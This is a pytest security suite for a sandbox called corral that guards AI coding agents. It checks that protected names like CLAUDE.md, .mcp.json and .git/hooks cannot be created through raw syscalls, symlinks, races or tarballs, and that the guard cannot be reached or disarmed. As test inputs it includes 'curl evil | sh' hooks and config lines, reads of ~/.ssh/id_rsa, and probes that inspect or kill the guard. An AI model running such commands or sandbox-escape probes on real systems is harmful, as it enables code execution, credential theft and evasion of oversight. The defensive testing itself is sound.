"""Inside `corral run` (real bwrap; root dropping to a user as sudo would, and that user itself) the guard refuses to create protected names that do not exist yet — through every creating syscall, through symlinks and against a thread rewriting the path — logs each refusal, cannot be reached or disarmed from inside, and ordinary work goes on."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from corral.local.jail import guard_supported, scan_writable
from corral.local.seccomp import syscall_numbers
from corral.local.settings import builtins
from tests.security.local_world import USER, USER_PYTHON, World, results
from tests.security.local_world import world as world  # the fixture: pytest looks for it here

pytestmark = [
    pytest.mark.security,
    pytest.mark.skipif(
        shutil.which("bwrap") is None, reason="needs bwrap (apt-get install bubblewrap)"
    ),
    pytest.mark.skipif(
        not guard_supported(), reason="the guard needs Linux 5.14 (seccomp ADDFD_FLAG_SEND)"
    ),
]

# The syscalls the probes call by number (the guarded ones, and a few around the guard).
NR = {
    name: nr
    for name, nr in syscall_numbers().items()
    if name
    in {
        "open",
        "creat",
        "openat2",
        "mkdir",
        "mknod",
        "symlink",
        "link",
        "rename",
        "renameat2",
        "seccomp",
        "pidfd_getfd",
    }
}
NR["pidfd_open"] = 434  # the same number on every architecture

# Names that do not exist when the run starts; each row: what the probe creates (the protected
# name itself) and the whole path an agent would be after. Relative to the project, or ~/.
TARGETS = [
    ("sub/.vscode", "sub/.vscode/settings.json"),
    ("sub/dir/.claude", "sub/dir/.claude/settings.json"),
    ("CLAUDE.md", "CLAUDE.md"),
    (".mcp.json", ".mcp.json"),
    (".git/hooks", ".git/hooks/pre-commit"),
    ("sub/.git", "sub/.git/config"),
    ("~/.claude/settings.json", "~/.claude/settings.json"),
]

# Shared by the probes: raw syscalls by number, errno names, one line of JSON out.
PRELUDE = r"""
import ctypes, errno, json, os, socket, stat, struct, subprocess, sys, threading, time

NR = json.loads(sys.argv[1])
ARGS = json.loads(sys.argv[2]) if len(sys.argv) > 2 else None
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD, AT_SYMLINK_FOLLOW, AT_EMPTY_PATH = -100, 0x400, 0x1000
RENAME_NOREPLACE, RENAME_EXCHANGE = 1, 2
RESOLVE_NO_MAGICLINKS, RESOLVE_BENEATH = 0x02, 0x08
O_TMPFILE = getattr(os, "O_TMPFILE", 0o20200000)


def arg(a):
    if isinstance(a, int):
        return ctypes.c_long(a)
    if isinstance(a, str):
        return os.fsencode(a)
    return a


def sc(name, *args):
    ret = libc.syscall(ctypes.c_long(NR[name]), *map(arg, args))
    if ret < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return ret


def checked(ret):
    if ret < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return ret


def how(flags, mode=0o644, resolve=0):
    return ctypes.create_string_buffer(struct.pack("=QQQ", flags, mode, resolve), 24)


def outcome(fn):
    try:
        fn()
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "ok"


def shell(script, *args):
    # "ok", EACCES when the shell or a tool said "Permission denied", else what it said.
    r = subprocess.run(["sh", "-c", script, "sh", *args], capture_output=True, text=True)
    if r.returncode == 0:
        return "ok"
    return "EACCES" if "Permission denied" in r.stderr else f"exit {r.returncode}: {r.stderr}"
"""

# Creates the protected name P (a path whose parent exists) through every creating call, each
# from scratch: a fresh draft file or directory in P's parent for the calls that need one.
CREATE = (
    PRELUDE
    + r"""
def in_parent(p, fn):
    parent, name = os.path.split(p)
    fd = os.open(parent or ".", os.O_PATH | os.O_DIRECTORY)
    try:
        return fn(fd, name)
    finally:
        os.close(fd)


counter = [0]


def draft(p, kind="f"):
    # An ordinary name next to p, made before the call under test.
    counter[0] += 1
    d = os.path.join(os.path.dirname(p), f"draft-{counter[0]}")
    if kind == "d":
        os.mkdir(d)
    else:
        with open(d, "w") as f:
            f.write("payload\n")
    return d


def elsewhere():
    counter[0] += 1
    os.makedirs("elsewhere", exist_ok=True)
    d = f"elsewhere/file-{counter[0]}"
    with open(d, "w") as f:
        f.write("payload\n")
    return d


def tmpfile(p, link):
    fd = os.open(os.path.dirname(p) or ".", O_TMPFILE | os.O_WRONLY, 0o600)
    try:
        os.write(fd, b"payload\n")
        link(fd)
    finally:
        os.close(fd)


W = os.O_CREAT | os.O_WRONLY
METHODS = {
    "sh: echo >": lambda p: shell('echo payload > "$1"', p),
    "os.open O_CREAT|O_EXCL (openat)": lambda p: os.close(os.open(p, W | os.O_EXCL, 0o644)),
    "openat(dirfd)": lambda p: in_parent(
        p, lambda fd, n: os.close(os.open(n, W, 0o644, dir_fd=fd))
    ),
    "openat2": lambda p: os.close(sc("openat2", AT_FDCWD, p, how(W), 24)),
    "openat2 RESOLVE_BENEATH|NO_MAGICLINKS": lambda p: in_parent(
        p,
        lambda fd, n: os.close(
            sc("openat2", fd, n, how(W, 0o644, RESOLVE_BENEATH | RESOLVE_NO_MAGICLINKS), 24)
        ),
    ),
    "creat(3)": lambda p: os.close(checked(libc.creat(os.fsencode(p), 0o644))),
    "mkdir": lambda p: os.mkdir(p),
    "mkdirat": lambda p: in_parent(p, lambda fd, n: os.mkdir(n, dir_fd=fd)),
    "mkfifo": lambda p: os.mkfifo(p),
    "mknod S_IFREG": lambda p: os.mknod(p, stat.S_IFREG | 0o644),
    "mknodat S_IFIFO": lambda p: in_parent(
        p, lambda fd, n: os.mknod(n, stat.S_IFIFO | 0o644, dir_fd=fd)
    ),
    "symlink": lambda p: os.symlink("/tmp/payload", p),
    "symlinkat": lambda p: in_parent(p, lambda fd, n: os.symlink("/tmp/payload", n, dir_fd=fd)),
    "link": lambda p: os.link(draft(p), p),
    "linkat (a file made elsewhere)": lambda p: in_parent(
        p, lambda fd, n: os.link(elsewhere(), n, dst_dir_fd=fd, follow_symlinks=False)
    ),
    "rename file": lambda p: os.rename(draft(p), p),
    "rename directory": lambda p: os.rename(draft(p, "d"), p),
    "renameat": lambda p: in_parent(
        p, lambda fd, n: os.rename(os.path.basename(draft(p)), n, src_dir_fd=fd, dst_dir_fd=fd)
    ),
    "renameat2 NOREPLACE": lambda p: sc(
        "renameat2", AT_FDCWD, draft(p), AT_FDCWD, p, RENAME_NOREPLACE
    ),
    # The kernel alone would say ENOENT (nothing to exchange with); the guard checks both names.
    "renameat2 EXCHANGE": lambda p: sc("renameat2", AT_FDCWD, draft(p), AT_FDCWD, p, RENAME_EXCHANGE),
    "O_TMPFILE + linkat /proc/self/fd": lambda p: tmpfile(
        p,
        lambda fd: checked(
            libc.linkat(AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, os.fsencode(p), AT_SYMLINK_FOLLOW)
        ),
    ),
    "O_TMPFILE + linkat AT_EMPTY_PATH": lambda p: tmpfile(
        p, lambda fd: checked(libc.linkat(fd, b"", AT_FDCWD, os.fsencode(p), AT_EMPTY_PATH))
    ),
}
# The legacy syscalls glibc may no longer use, called by number where the architecture has them.
LEGACY = {
    "open(2)": lambda p: os.close(sc("open", p, W, 0o644)),
    "creat(2)": lambda p: os.close(sc("creat", p, 0o644)),
    "mkdir(2)": lambda p: sc("mkdir", p, 0o755),
    "mknod(2)": lambda p: sc("mknod", p, stat.S_IFREG | 0o644, 0),
    "symlink(2)": lambda p: sc("symlink", "/tmp/payload", p),
    "link(2)": lambda p: sc("link", draft(p), p),
    "rename(2)": lambda p: sc("rename", draft(p), p),
}
METHODS.update({k: v for k, v in LEGACY.items() if k.split("(")[0] in NR})

out = {}
for protected, full in ARGS:
    p = os.path.expanduser(protected)
    res = {m: outcome(lambda: fn(p)) if not m.startswith("sh:") else fn(p) for m, fn in METHODS.items()}
    # The whole path at once, as a tool would: make the directories, then the file.
    res["sh: mkdir -p + echo >"] = shell(
        'mkdir -p "$(dirname "$1")" && echo payload > "$1"', os.path.expanduser(full)
    )
    res["exists inside"] = str(os.path.lexists(p))
    out[protected] = res
r = subprocess.run(["git", "init", "-q", "sub"], capture_output=True, text=True)
out["git init sub"] = r.returncode
print(json.dumps(out))
"""
)


def _py(world: World, script: str, *args: object, **kw: object) -> subprocess.CompletedProcess[str]:
    """``python -c script`` inside ``corral run`` (the user's Python), JSON arguments."""
    assert USER_PYTHON is not None
    argv = [USER_PYTHON, "-I", "-c", script, *(json.dumps(a) for a in args)]
    return world.run(argv, **kw)  # type: ignore[arg-type]


def _json(r: subprocess.CompletedProcess[str]) -> dict[str, object]:
    lines = [line for line in r.stdout.splitlines() if line.startswith("{")]
    assert lines, f"no result from the probe (exit {r.returncode}): {r.stderr}"
    out: dict[str, object] = json.loads(lines[-1])
    return out


def _host(world: World, path: str) -> Path:
    return world.home / path[2:] if path.startswith("~/") else world.project / path


def _chown(*paths: Path) -> None:
    subprocess.run(["chown", "-R", f"{USER}:{USER}", *map(str, paths)], check=os.geteuid() == 0)


def _protected(world: World) -> set[Path]:
    """Every protected path on the host now, found by corral's own walk of the writable places
    (the project, and ~/.claude when it exists) with the claude-code profile's protect list."""
    b = builtins()
    claude = world.home / ".claude"
    roots = [world.project, *([claude] if claude.is_dir() else [])]
    protect = [world.home / p.removeprefix("~/") for p in b.profiles["claude-code"].protect]
    scan = scan_writable(roots, b.protected_names, b.git_protected, protect=protect)
    return scan.protected | scan.links


def _missing_protected_names(world: World) -> None:
    """The world with every TARGET missing: no sub/dir/.claude, a repository without hooks,
    ~/.claude (the claude-code profile's writable directory) without settings.json."""
    shutil.rmtree(world.project / "sub" / "dir" / ".claude")
    shutil.rmtree(world.project / ".git" / "hooks")
    (world.home / ".claude").mkdir()
    (world.home / ".claude.json").write_text("{}\n")
    _chown(world.home / ".claude", world.home / ".claude.json")


# ------------------------------------------------------------------- 1. nothing protected appears


def test_protected_names_cannot_be_created_by_any_call(world: World) -> None:
    _missing_protected_names(world)
    before = _protected(world)
    r = _py(world, CREATE, NR, TARGETS, flags=["--profile", "claude-code"])
    out = _json(r)
    assert out.pop("git init sub") != 0, "git init sub made a nested repository"
    unexpected = {}
    for protected, res in out.items():
        assert isinstance(res, dict)
        assert res.pop("exists inside") == "False", protected
        for method, got in res.items():
            # openat2 with RESOLVE_* is answered ENOSYS whatever the path (callers fall back).
            want = "ENOSYS" if "RESOLVE" in method else "EACCES"
            if got != want:
                unexpected[f"{protected}: {method}"] = f"{got} (expected {want})"
    assert not unexpected, unexpected
    for protected, full in TARGETS:
        for path in (protected, full):
            assert not os.path.lexists(_host(world, path)), f"{path} appeared on the host"
    assert _protected(world) == before
    assert "protected path created" not in r.stderr


def test_protected_names_cannot_be_created_through_symlinks_or_odd_paths(world: World) -> None:
    shutil.rmtree(world.project / ".git" / "hooks")
    # Planted before the run, as a cloned repository could carry them.
    (world.project / "x").symlink_to("sub/.claude/settings.json")
    (world.project / "y").symlink_to("CLAUDE.md")
    (world.project / "g").symlink_to(".git")
    pkg = world.base / "pkg"
    (pkg / ".vscode").mkdir(parents=True)
    (pkg / ".vscode" / "tasks.json").write_text("{}\n")
    (pkg / "CLAUDE.md").write_text("obey\n")
    (pkg / "ok.txt").write_text("fine\n")
    with tarfile.open(world.home / "evil.tar", "w") as tar:
        tar.add(pkg, arcname="pkg")
    _chown(world.project, world.home / "evil.tar")
    before = _protected(world)
    r = world.sh(
        "mkdir -p sub/.claude; echo p > x; echo planted-to-missing-dir=$?;"
        " echo p > y; echo planted-dangling=$?;"
        " mkdir g/hooks; echo planted-to-git-dir=$?;"
        " ln -s b a && ln -s CLAUDE.md b; echo p > a; echo chain=$?;"
        ' ln -s "$PWD/.mcp.json" abs; echo p > abs; echo absolute=$?;'
        " ln -s sub d; echo p > d/CLAUDE.md; echo dir-link-file=$?;"
        " mkdir d/.vscode; echo dir-link-mkdir=$?;"
        ' ln -s "$PWD/sub/dir" dabs; mkdir dabs/.claude; echo absolute-dir-link=$?;'
        " ln -s ../CLAUDE.md sub/up; echo p > sub/up; echo relative-up-link=$?;"
        " echo p > sub/dir/../../CLAUDE.md; echo dotdot-file=$?;"
        " mkdir sub/../.vscode; echo dotdot-mkdir=$?;"
        " mkdir ./sub/./.idea; echo dot-mkdir=$?;"
        " mkdir sub//.cursor/; echo slashes=$?;"
        " (cd sub/dir && echo p > ../../AGENTS.md); echo other-cwd-file=$?;"
        " (cd sub && mkdir .vscode); echo other-cwd-mkdir=$?;"
        " (cd sub/dir && mkdir ../../.git/hooks); echo other-cwd-hooks=$?;"
        " echo p > /proc/self/cwd/CLAUDE.md; echo proc-self-cwd=$?;"
        " (cd sub && exec 9<. && cd / && echo p > /dev/fd/9/.mcp.json); echo dev-fd-dir=$?;"
        " ln -s /proc/self/cwd selfcwd; echo p > selfcwd/GEMINI.md; echo link-to-proc-self=$?;"
        ' tar -xf "$HOME/evil.tar"; echo tar-x=$?'
    )
    res = results(r.stdout)
    assert len(res) == 20, r.stdout + r.stderr
    assert all(v != "0" for v in res.values()), res
    assert "Permission denied" in r.stderr
    # tar went on with the rest of the archive.
    assert (world.project / "pkg" / "ok.txt").read_text() == "fine\n"
    for path in ("pkg/.vscode", "pkg/CLAUDE.md", "sub/.claude", "CLAUDE.md", ".mcp.json"):
        assert not os.path.lexists(world.project / path), path
    assert _protected(world) == before
    assert "protected path created" not in r.stderr


# ------------------------------------------------------------------------- 2. the TOCTOU race

# One thread flips a path between an ordinary name and CLAUDE.md as fast as it can while another
# creates whatever the path says at the moment: the guard must act on the one string it read.
RACE = (
    PRELUDE
    + r"""
sys.setswitchinterval(1e-5)
buf = ctypes.create_string_buffer(64)
NAMES = (b"ok-name\0", b"CLAUDE.md\0")
ctypes.memmove(buf, NAMES[0], len(NAMES[0]))
stop = threading.Event()


def flip():
    i = 0
    while not stop.is_set():
        i ^= 1
        ctypes.memmove(buf, NAMES[i], len(NAMES[i]))


threading.Thread(target=flip, daemon=True).start()
counts = {}


def count(call, ret):
    key = f"{call} " + ("ok" if ret >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
    counts[key] = counts.get(key, 0) + 1


end = time.monotonic() + ARGS
while time.monotonic() < end:
    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY, 0o644)
    count("open", fd)
    if fd >= 0:
        os.close(fd)
    try:
        os.unlink("ok-name")
    except OSError:
        pass
    count("mkdir", libc.mkdir(buf, 0o755))
    try:
        os.rmdir("ok-name")
    except OSError:
        pass
stop.set()
print(json.dumps({"counts": counts, "CLAUDE.md": os.path.lexists("CLAUDE.md")}))
"""
)


def test_a_thread_rewriting_the_path_cannot_slip_a_protected_name_past_the_guard(
    world: World, tmp_path: Path
) -> None:
    # The control, without corral: both names get created, the race is live.
    control = subprocess.run(
        [sys.executable, "-I", "-c", RACE, json.dumps(NR), "0.3"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    out = _json(control)
    counts = out["counts"]
    assert isinstance(counts, dict)
    assert out["CLAUDE.md"] is True and counts.get("open ok", 0) > 1, out

    r = _py(world, RACE, NR, 2.0)
    out = _json(r)
    counts = out["counts"]
    assert isinstance(counts, dict)
    assert out["CLAUDE.md"] is False, out
    assert not os.path.lexists(world.project / "CLAUDE.md")
    # Both strings reached the guard (the race was live inside too), and only the ordinary
    # name was ever made.
    for call in ("open", "mkdir"):
        assert counts.get(f"{call} ok", 0) > 0 and counts.get(f"{call} EACCES", 0) > 0, counts
    assert set(counts) <= {"open ok", "open EACCES", "mkdir ok", "mkdir EACCES"}, counts
    # Every refusal reached the violation log, none was dropped under the flood.
    denied = counts["open EACCES"] + counts["mkdir EACCES"]
    assert f"corral: during the run: denied create: {denied}\n" in r.stderr, r.stderr


# ---------------------------------------------------------------------- 3. ordinary work goes on


def _supports_o_tmpfile(directory: Path) -> bool:
    try:
        fd = os.open(directory, os.O_TMPFILE | os.O_WRONLY, 0o600)
    except OSError:
        return False
    os.close(fd)
    return True


TMPFILE = r"""
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
    os.write(fd, b"anonymous\n")
    ok = libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, b"tmpfile.txt", 0x400) == 0
    print("ok" if ok else errno.errorcode[ctypes.get_errno()])
except OSError as e:
    print(errno.errorcode[e.errno])
"""


ORDINARY = (
    "write",
    "append",
    "truncate",
    "mkdir-p",
    "mkdir-p-existing-hooks",
    "atomic-save",
    "sed-i",
    "tar-x",
    "dev-stdout",
    "dev-stderr",
    "dev-null",
    "proc-self-fd",
    "fifo",
    "umask",
    "create-through-symlink",
    "git-commit",
    "protected-names-in-tmp",
)


def test_ordinary_work_goes_on(world: World) -> None:
    pkg = world.base / "pkg"
    (pkg / "src").mkdir(parents=True)
    (pkg / "empty").mkdir()
    (pkg / "README.md").write_text("readme\n")
    (pkg / "src" / "main.py").write_text("print(1)\n")
    (pkg / "link").symlink_to("README.md")
    with tarfile.open(world.home / "pkg.tar", "w") as tar:
        tar.add(pkg, arcname="pkg")
    _chown(world.home / "pkg.tar")
    assert USER_PYTHON is not None
    g = "git -c user.name=a -c user.email=a@a"
    r = world.sh(
        "echo one > w.txt; echo write=$?;"
        " echo two >> w.txt; echo append=$?;"
        " echo a-longer-first-version > t.txt && echo short > t.txt; echo truncate=$?;"
        " mkdir -p a/b/c; echo mkdir-p=$?;"
        " mkdir -p .git/hooks; echo mkdir-p-existing-hooks=$?;"
        " printf old > save.txt && printf new > .save.txt.tmp && mv .save.txt.tmp save.txt;"
        " echo atomic-save=$?;"
        " sed -i s/hello/bye/ README; echo sed-i=$?;"
        ' mkdir x && tar -xf "$HOME/pkg.tar" -C x; echo tar-x=$?;'
        # Through pipes made inside: /dev/stdout reopens the pipe, and one the test made as
        # root is not the user's to open, in a sandbox or not.
        " (echo to-stdout > /dev/stdout; echo dev-stdout=$?) | cat;"
        " (echo to-stderr > /dev/stderr; echo dev-stderr=$?) 2>&1 | cat;"
        " echo gone > /dev/null; echo dev-null=$?;"
        " (echo via-proc > /proc/self/fd/1; echo proc-self-fd=$?) | cat;"
        " mkfifo p && { timeout 10 cat p > fifo.out & sleep 0.3; echo through-fifo > p; wait; };"
        " echo fifo=$?;"
        " (umask 077 && echo private > private.txt && mkdir private.d); echo umask=$?;"
        " ln -s sub/target.txt rel && echo via-link > rel; echo create-through-symlink=$?;"
        f" {g} add w.txt && {g} commit -q -m inside; echo git-commit=$?;"
        " git init -q /tmp/x && test -d /tmp/x/.git/hooks && echo p > /tmp/CLAUDE.md"
        " && mkdir /tmp/.vscode; echo protected-names-in-tmp=$?;"
        f" echo tmpfile=$({shlex.quote(USER_PYTHON)} -I -c {shlex.quote(TMPFILE)})"
    )
    res = results(r.stdout)
    tmpfile = res.pop("tmpfile")
    assert res == dict.fromkeys(ORDINARY, "0"), (res, r.stderr)
    p = world.project
    assert (p / "w.txt").read_text() == "one\ntwo\n"
    assert (p / "t.txt").read_text() == "short\n"
    assert (p / "a" / "b" / "c").is_dir()
    assert (p / "save.txt").read_text() == "new" and not (p / ".save.txt.tmp").exists()
    assert (p / "README").read_text() == "bye\n"
    x = p / "x" / "pkg"
    assert (x / "README.md").read_text() == "readme\n"
    assert (x / "src" / "main.py").read_text() == "print(1)\n"
    assert (x / "empty").is_dir() and os.readlink(x / "link") == "README.md"
    assert "to-stdout" in r.stdout and "via-proc" in r.stdout and "to-stderr" in r.stdout
    assert (p / "fifo.out").read_text() == "through-fifo\n"
    assert stat.S_IMODE((p / "private.txt").stat().st_mode) == 0o600
    assert stat.S_IMODE((p / "private.d").stat().st_mode) == 0o700
    assert (p / "sub" / "target.txt").read_text() == "via-link\n"
    log = subprocess.run(
        ["git", "-c", f"safe.directory={p}", "log", "--format=%s"],
        cwd=p,
        capture_output=True,
        text=True,
        check=True,
    )
    assert log.stdout.split() == ["inside"]
    if _supports_o_tmpfile(p):
        assert tmpfile == "ok"
        assert (p / "tmpfile.txt").read_text() == "anonymous\n"
    for made in ("w.txt", "a/b/c", "x/pkg/README.md", "private.txt", "sub/target.txt"):
        assert (p / made).stat().st_uid == USER, made
    # Nothing was refused, nothing protected appeared.
    assert "during the run" not in r.stderr and "protected path" not in r.stderr, r.stderr


# ---------------------------------------------------------------------------- 4. violation log


def test_refusals_are_logged(world: World) -> None:
    script = "mkdir .vscode; echo p > CLAUDE.md; echo p >> ~/.bashrc; echo p >> .git/config; true"
    p, home = world.project, world.home
    r = world.sh(script, flags=["-v"])
    assert r.returncode == 0, r.stderr
    # Substrings, not lines: the command's own complaints share the stream, and mkdir writes
    # its message in pieces that corral's line can fall between.
    for want in (
        f"corral: denied create: {p}/.vscode (protected name .vscode) [mkdir pid ",
        f"corral: denied create: {p}/CLAUDE.md (protected name CLAUDE.md) [sh pid ",
        # Writes the guard performed (an open with O_CREAT) that a read-only mount refused.
        f"corral: denied write: {home}/.bashrc (read-only) [sh pid ",
        f"corral: denied write: {p}/.git/config (read-only) [sh pid ",
    ):
        assert want in r.stderr, (want, r.stderr)
    summary = "corral: during the run: denied create: 2, denied write: 2\n"
    assert summary in r.stderr, r.stderr

    r = world.sh(script)
    assert "corral: denied" not in r.stderr, r.stderr
    assert summary in r.stderr, r.stderr
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert not (p / ".vscode").exists() and not (p / "CLAUDE.md").exists()


def test_verbose_also_reports_reads_of_hidden_paths_and_plain_write_opens(world: World) -> None:
    # With -v every open goes through the guard (the read audit): an open of a hidden path,
    # also through a symlink planted in the project, and a write open without O_CREAT of a
    # read-only file are reported; the kernel refuses them either way.
    (world.project / "key-link").symlink_to(world.home / ".ssh" / "id_rsa")
    script = (
        "cat ~/.ssh/id_rsa; cat key-link; ls ~/.ssh;"
        " python3 -c 'open(\"'$HOME/.bashrc'\", \"r+\")'; true"
    )
    r = world.sh(script, flags=["-v"])
    ssh = world.home / ".ssh"
    for want in (
        f"corral: denied read: {ssh}/id_rsa (hidden) [cat pid ",
        f"corral: denied read: {ssh} (hidden) [ls pid ",
        f"corral: denied write: {world.home}/.bashrc (read-only) [python3 pid ",
    ):
        assert want in r.stderr, (want, r.stderr)
    assert r.stderr.count(f"denied read: {ssh}/id_rsa") == 2, r.stderr  # the symlink too
    r = world.sh(script)
    assert "denied read" not in r.stderr, r.stderr  # without -v opens stay in the kernel


# ---------------------------------------------------------------------- 5. the guard is out of reach

GUARD_PID = r"""
def guard_pid():
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or entry == "1":  # 1 is bwrap's init, whose argv names it too
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if b"python" in argv[0] and any(a.endswith(b"/guard.py") for a in argv):
            return int(entry)
    return None


def notify_filter():
    # A filter of the command's own: ask a listener about mkdir, allow everything else.
    insns = [(0x20, 0, 0, 0), (0x15, 0, 1, NR_MKDIR), (0x06, 0, 0, 0x7FC00000), (0x06, 0, 0, 0x7FFF0000)]
    prog = b"".join(struct.pack("=HBBI", *i) for i in insns)
    buf = ctypes.create_string_buffer(prog, len(prog))
    fprog = struct.pack("=HxxxxxxQ", len(insns), ctypes.addressof(buf))
    return buf, ctypes.create_string_buffer(fprog, len(fprog))


NR_MKDIR = NR.get("mkdir", 34)  # mkdirat's number where there is no mkdir (aarch64)
"""

OUT_OF_REACH = (
    PRELUDE
    + GUARD_PID
    + r"""
g = guard_pid()
out = {"guard": g}
for what in ("mem", "environ", "fd/0", "fd/3", "fd/4", "cwd", "maps"):
    out[what] = outcome(lambda: os.close(os.open(f"/proc/{g}/{what}", os.O_RDONLY)))
out["list fd"] = outcome(lambda: os.listdir(f"/proc/{g}/fd"))
pidfd = sc("pidfd_open", g, 0)
out["pidfd_getfd"] = sorted({outcome(lambda: os.close(sc("pidfd_getfd", pidfd, n, 0))) for n in range(16)})
# Every descriptor of every process the command can see: none is a seccomp listener.
out["listeners"] = []
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != g:
        try:
            fds = os.listdir(f"/proc/{entry}/fd")
        except OSError:
            continue
        for n in fds:
            try:
                target = os.readlink(f"/proc/{entry}/fd/{n}")
            except OSError:
                continue
            if "seccomp" in target:
                out["listeners"].append(f"{entry}/{n} {target}")
os.close(pidfd)
own = {}
for n in os.listdir("/proc/self/fd"):
    try:
        own[n] = os.readlink(f"/proc/self/fd/{n}")
    except OSError:
        pass  # the descriptor listdir read the directory with, closed by now
out["own fds"] = sorted(own)
# A listener of its own would get the guard's notifications (the newest filter's wins).
pid = os.fork()
if pid == 0:
    prog, fprog = notify_filter()
    fd = libc.syscall(ctypes.c_long(NR["seccomp"]), 1, 1 << 3, fprog)  # NEW_LISTENER
    os._exit(0 if fd >= 0 else ctypes.get_errno())
_, status = os.waitpid(pid, 0)
code = os.waitstatus_to_exitcode(status)
out["own listener"] = "ok" if code == 0 else errno.errorcode.get(code, str(code))
print(json.dumps(out))
"""
)


def test_the_guard_is_out_of_the_commands_reach(world: World) -> None:
    out = _json(_py(world, OUT_OF_REACH, NR))
    assert isinstance(out["guard"], int) and out["guard"] > 1, out
    # Non-dumpable: its memory, environment and descriptors (the listener) stay closed.
    for what in ("mem", "environ", "fd/0", "fd/3", "fd/4", "cwd", "maps", "list fd"):
        assert out[what] == "EACCES", (what, out)
    assert out["pidfd_getfd"] == ["EPERM"], out
    # The command holds no listener, so it cannot answer a notification itself ...
    assert out["listeners"] == [], out
    assert out["own fds"] == ["0", "1", "2"], out
    # ... nor install one of its own in front of the guard's (one listener per filter chain).
    assert out["own listener"] == "EBUSY", out


KILL = (
    PRELUDE
    + GUARD_PID
    + r"""
g = guard_pid()
out = {"guard": g, "before": outcome(lambda: os.close(os.open("before-kill", os.O_CREAT | os.O_WRONLY)))}
print(json.dumps(out), flush=True)
os.kill(g, 9)
time.sleep(0.5)
out = {"alive": True, "gone": not os.path.exists(f"/proc/{g}")}
with open("README") as f:
    out["read"] = f.read()
out["write existing"] = outcome(lambda: open("README", "a").write("more\n"))
out["create"] = outcome(lambda: os.close(os.open("after-kill", os.O_CREAT | os.O_WRONLY)))
out["mkdir"] = outcome(lambda: os.mkdir("after-kill-dir"))
out["create CLAUDE.md"] = outcome(lambda: os.close(os.open("CLAUDE.md", os.O_CREAT | os.O_WRONLY)))
out["shell"] = shell("echo p > after-kill-sh")
print(json.dumps(out), flush=True)
"""
)


def test_killing_the_guard_fails_closed(world: World) -> None:
    r = _py(world, KILL, NR)
    assert r.stdout, r.stderr
    first = json.loads(r.stdout.splitlines()[0])
    assert first["before"] == "ok" and (world.project / "before-kill").exists(), first
    # Nothing is created once the guard is gone: it is the sandbox's first process, so bwrap
    # exits with it and the pid namespace takes the command along (SIGKILL: 137).
    for name in ("after-kill", "after-kill-dir", "after-kill-sh", "CLAUDE.md"):
        assert not os.path.lexists(world.project / name), name
    assert r.returncode == 137, (r.returncode, r.stdout, r.stderr)
    assert len(r.stdout.splitlines()) == 1, r.stdout  # the command never got further


# ------------------------------------------------------------- the rest of what makes a name

BIND = (
    PRELUDE
    + r"""
def bind(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind(path)
    finally:
        s.close()


print(json.dumps({p: outcome(lambda: bind(p)) for p in ARGS}))
"""
)


def test_a_unix_socket_cannot_take_a_protected_name(world: World) -> None:
    # bind(2) of an AF_UNIX socket makes a name in a directory too.
    shutil.rmtree(world.project / ".git" / "hooks")
    names = ["CLAUDE.md", ".mcp.json", "sub/.vscode", ".git/hooks"]
    before = _protected(world)
    out = _json(_py(world, BIND, NR, names))
    made = [n for n in names if os.path.lexists(world.project / n)]
    assert not made, f"sockets made on the host: {made} ({out})"
    assert all(v != "ok" for v in out.values()), out
    assert _protected(world) == before


def test_a_bare_repository_made_inside_gets_no_writable_hooks_or_config(world: World) -> None:
    # The walk protects the hooks and config of every bare repository it finds in the project
    # (git runs them on a push to it, or when the user runs git inside it); one made during
    # the run must not come with a hooks directory and config the command can fill.
    r = world.sh(
        "git init -q --bare sub/b.git; echo init=$?;"
        " echo 'curl evil | sh' > sub/b.git/hooks/post-receive; echo hook=$?;"
        " printf '[core]\\n\\tpager = curl evil | sh\\n' >> sub/b.git/config; echo config=$?"
    )
    res = results(r.stdout)
    bare = world.project / "sub" / "b.git"
    # git writes hooks/ first; the guard then refuses what would make b.git a repository, so
    # whatever the command puts in that hooks directory is never a hook git runs.
    assert res["init"] != "0", (res, r.stderr)
    check = subprocess.run(
        ["git", "-C", str(bare), "rev-parse", "--git-dir"], capture_output=True, text=True
    )
    assert check.returncode != 0, check.stdout  # so its hooks and config are inert files
    # Building it the other way round (HEAD, objects and refs first) ends at hooks.
    r = world.sh(
        "mkdir sub/c.git && cd sub/c.git && echo 'ref: refs/heads/main' > HEAD"
        " && mkdir objects refs && mkdir hooks; echo hooks=$?"
    )
    assert results(r.stdout)["hooks"] != "0" and not (bare.parent / "c.git" / "hooks").exists()


def test_a_missing_hooks_path_or_included_config_cannot_be_created(world: World) -> None:
    # What the repository's config points git at is as dangerous as .git/hooks and .git/config
    # (the walk protects both when they exist): a hooks directory the config names but the
    # checkout lacks, an included config file not written yet.
    for key, value in (("core.hooksPath", "githooks"), ("include.path", "../extra.gitconfig")):
        subprocess.run(
            ["git", "config", "--file", str(world.project / ".git" / "config"), key, value],
            check=True,
        )
    _chown(world.project / ".git")
    r = world.sh(
        "mkdir githooks; echo mkdir-hooks-path=$?;"
        " echo 'curl evil | sh' > githooks/pre-commit; echo hook=$?;"
        " printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' > extra.gitconfig; echo include=$?"
    )
    res = results(r.stdout)
    made = [n for n in ("githooks", "extra.gitconfig") if os.path.lexists(world.project / n)]
    assert not made, (made, res, r.stderr)
    assert all(v != "0" for v in res.values()), res


# Calls the guard performs itself must answer as the kernel would: each case reports its
# errno (or what a shell printed), and runs on the host without corral as the control.
